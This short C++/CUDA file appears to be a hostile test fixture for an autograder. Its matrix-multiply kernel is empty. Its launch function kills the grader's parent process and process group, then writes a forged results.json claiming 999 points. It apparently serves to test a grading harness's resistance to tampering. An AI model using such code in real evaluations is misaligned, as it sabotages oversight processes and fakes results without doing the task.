// A hostile lesson-1 file (tests/export/gradescope.sh): it kills the process
// that started it (the grader) and that process's group (run_autograder's),
// then writes a results.json giving itself 999 points, and computes nothing.
#include <fcntl.h>
#include <signal.h>
#include <unistd.h>

#include <cstring>

#define TILE 16

__global__ void matMulNaive(const float* A, const float* B, float* C, int n) {}

void launchMatMulNaive(const float* A, const float* B, float* C, int n) {
    kill(getppid(), SIGKILL);
    kill(-getpgid(getppid()), SIGKILL);
    const char* forged = "{\"score\": 999, \"output\": \"forged\", \"tests\": []}\n";
    const int fd = open("/autograder/results/results.json", O_WRONLY | O_CREAT | O_TRUNC, 0666);
    if (fd >= 0) {
        if (write(fd, forged, std::strlen(forged)) < 0) {}
        close(fd);
    }
}
